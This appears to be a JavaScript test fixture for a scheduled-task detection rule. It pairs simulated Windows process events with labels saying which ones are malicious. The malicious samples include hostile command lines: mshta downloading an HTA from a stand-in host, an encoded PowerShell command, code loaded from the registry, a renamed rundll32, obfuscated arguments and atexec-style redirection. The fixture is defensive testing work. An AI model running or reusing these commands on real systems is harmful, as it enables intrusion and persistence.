// What the scheduler starts: interpreters on users' files, and what Windows and installed software do every day.
import { ordinary, processAudit, schedulerEvent, time } from '../events.js';
import { machine, scheduled, typed } from '../cast.js';

const at = (second) => time(`2026-03-02T20:00:${String(second).padStart(2, '0')}`);
const SYSTEM32 = 'C:\\Windows\\System32';
const POWERSHELL = `${SYSTEM32}\\WindowsPowerShell\\v1.0\\powershell.exe`;
const encoded = Buffer.from("Write-Host 'stratagem'", 'utf16le').toString('base64');

/** What the files themselves say. */
const ORIGINAL = new Map([
  ['cmd.exe', 'Cmd.Exe'],
  ['mshta.exe', 'MSHTA.EXE'],
  ['powershell.exe', 'PowerShell.EXE'],
  ['regsvr32.exe', 'REGSVR32.EXE'],
  ['rundll32.exe', 'RUNDLL32.EXE'],
  ['wscript.exe', 'wscript.exe'],
]);

const start = (second, image, commandLine, more) =>
  scheduled({
    host: 'ws-014',
    at: at(second),
    image,
    commandLine,
    originalName: ORIGINAL.get(image.slice(image.lastIndexOf('\\') + 1).toLowerCase()) ?? '-',
    ...more,
  });

const taskeng = {
  parentImage: `${SYSTEM32}\\taskeng.exe`,
  parentCommandLine:
    'taskeng.exe {A41E7C22-03B5-4A0E-8C0B-6D2F3B1C9E57} S-1-5-18:NT AUTHORITY\\System:Service:',
};

export const recordings = {
  'started-user-script.xml': () => [
    start(
      1,
      `${SYSTEM32}\\wscript.exe`,
      'wscript.exe //B "C:\\Users\\m.keller\\AppData\\Local\\Temp\\r.vbs"',
      {
        user: 'CORP\\m.keller',
      },
    ),
    start(2, POWERSHELL.toUpperCase(), 'POWERSHELL -File "C:\\PROGRAMDATA\\n.ps1"'),
    start(3, 'C:\\Windows\\Temp\\r32.exe', 'r32.exe C:\\Windows\\Te^mp\\a.dll,Run', {
      originalName: 'RUNDLL32.EXE',
      parentCommandLine: 'C:\\Windows\\system32\\svchost.exe -k netsvcs',
    }),
    start(4, `${SYSTEM32}\\cmd.exe`, 'cmd /c C:\\Users\\Public\\run.bat', taskeng),
  ],
  'started-encoded.xml': () => [
    start(11, POWERSHELL, `powershell.exe -NoP -enc ${encoded}`),
    start(12, `${SYSTEM32}\\mshta.exe`, 'mshta https://cdn.northwind-update.example/n.hta'),
    start(
      13,
      POWERSHELL,
      'powershell -c "& ([scriptblock]::Create((gp HKCU:\\Software\\Northwind).d))"',
    ),
    start(14, `${SYSTEM32}\\cmd.exe`, 'c:\\Windows\\System32\\cmd.exe ', taskeng),
  ],
  'started-redirected.xml': () => [
    start(
      15,
      `${SYSTEM32}\\cmd.exe`,
      'cmd /c start n.exe & rem \\system32\\cleanmgr.exe /autoclean /d C:',
    ),
    start(16, 'D:\\x\\system32\\taskhostw.exe', 'D:\\x\\system32\\taskhostw.exe $(Arg0)'),
  ],
  'started-elsewhere.xml': () => [
    start(17, `${SYSTEM32}\\cmd.exe`, 'cmd.exe /c D:\\jobs\\a.bat'),
    start(18, `${SYSTEM32}\\regsvr32.exe`, 'regsvr32.exe -s d:\\jobs\\a.dll'),
    start(19, 'C:\\Users\\Public\\a.exe', 'C:\\Users\\Public\\a.exe'),
    start(20, POWERSHELL, 'powershell.exe \u2014NoP \u2015File D:/jobs/a.ps1'),
  ],
  'started-audited.xml': () => [
    processAudit({
      host: 'srv-003',
      at: at(25),
      who: machine('srv-003'),
      image: `${SYSTEM32}\\cmd.exe`,
      parentImage: `${SYSTEM32}\\svchost.exe`,
      commandLine: 'cmd.exe /C tasklist > C:\\Windows\\Temp\\KXWRPQLM.tmp 2>&1',
    }),
  ],
  'started-in-log.xml': () => [
    schedulerEvent(
      129,
      { host: 'ws-014', at: at(21) },
      '\\Sync',
      'C:\\WINDOWS\\system32\\MSHTA.exe',
      '5120',
      '16384',
    ),
    schedulerEvent(
      200,
      { host: 'ws-014', at: at(22) },
      '\\Microsoft\\Windows\\Maps\\Cache',
      'C:\\Users\\m.keller\\AppData\\Roaming\\m.exe',
      '{3C0D0C11-7C58-4E2B-9C0F-1F4B6C1E7A20}',
      '1344',
    ),
    ...ordinary(
      schedulerEvent(
        129,
        { host: 'ws-014', at: at(23) },
        '\\Microsoft\\Windows\\Printing\\Notify',
        'rundll32.exe',
        '5124',
        '16384',
      ),
    ),
  ],
  'started-near-windows.xml': () => [
    start(
      31,
      `${SYSTEM32}\\rundll32.exe`,
      'C:\\Windows\\system32\\rundll32.exe Startupscan.dll,SusRunTask',
    ),
    start(
      32,
      `${SYSTEM32}\\cmd.exe`,
      'C:\\Windows\\SYSTEM32\\cmd.exe /c "C:\\Program Files\\Npcap\\CheckStatus.bat"',
    ),
    start(
      33,
      POWERSHELL,
      'powershell.exe -NoProfile -File "C:\\Program Files\\Contoso\\Agent\\inventory.ps1"',
    ),
    start(34, `${SYSTEM32}\\taskhostw.exe`, 'taskhostw.exe Logon'),
    start(
      36,
      `${SYSTEM32}\\cmd.exe`,
      'C:\\Windows\\system32\\cmd.exe /d /c C:\\Windows\\system32\\silcollector.cmd publish',
    ),
    start(
      37,
      `${SYSTEM32}\\wscript.exe`,
      'wscript.exe C:\\Windows\\system32\\gatherNetworkInfo.vbs',
    ),
    processAudit({
      host: 'ws-014',
      at: at(38),
      who: machine('ws-014'),
      image: `${SYSTEM32}\\wbem\\WmiPrvSE.exe`,
      parentImage: `${SYSTEM32}\\svchost.exe`,
      commandLine: 'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding',
    }),
    schedulerEvent(
      129,
      { host: 'ws-014', at: at(35) },
      '\\Microsoft\\Windows\\Work Folders\\Sync',
      'taskhostw.exe',
      '5132',
      '16384',
    ),
  ],
  'started-near-user.xml': () => [
    typed({
      host: 'ws-014',
      at: at(41),
      image: `${SYSTEM32}\\wscript.exe`,
      commandLine: 'wscript.exe "C:\\Users\\m.keller\\Desktop\\map drives.vbs"',
      parentImage: 'C:\\Windows\\explorer.exe',
      parentCommandLine: 'C:\\Windows\\Explorer.EXE',
    }),
    start(42, `${SYSTEM32}\\cmd.exe`, 'cmd /c C:\\Users\\Public\\run.bat', {
      parentCommandLine: 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s gpsvc',
    }),
    start(
      43,
      `${SYSTEM32}\\notepad.exe`,
      'notepad.exe C:\\Users\\m.keller\\Documents\\powershell.txt',
    ),
  ],
};

/** What the malicious events of a recording are: all that `ordinary` does not except. */
export const attacks = {
  'started-user-script.xml':
    "wscript, PowerShell, rundll32 and cmd run what lies in users' folders, one of them below taskeng.exe",
  'started-encoded.xml':
    'an encoded command, a download, code from the registry, and a bare shell as SYSTEM',
  'started-redirected.xml': "a built-in task's variable leads to a shell and to another folder",
  'started-elsewhere.xml':
    'a batch file, a DLL and a script on another drive, and a program in the folder of all users',
  'started-audited.xml': "process auditing alone sees atexec's command",
  'started-in-log.xml': "the scheduler's log names mshta and a program in AppData",
};
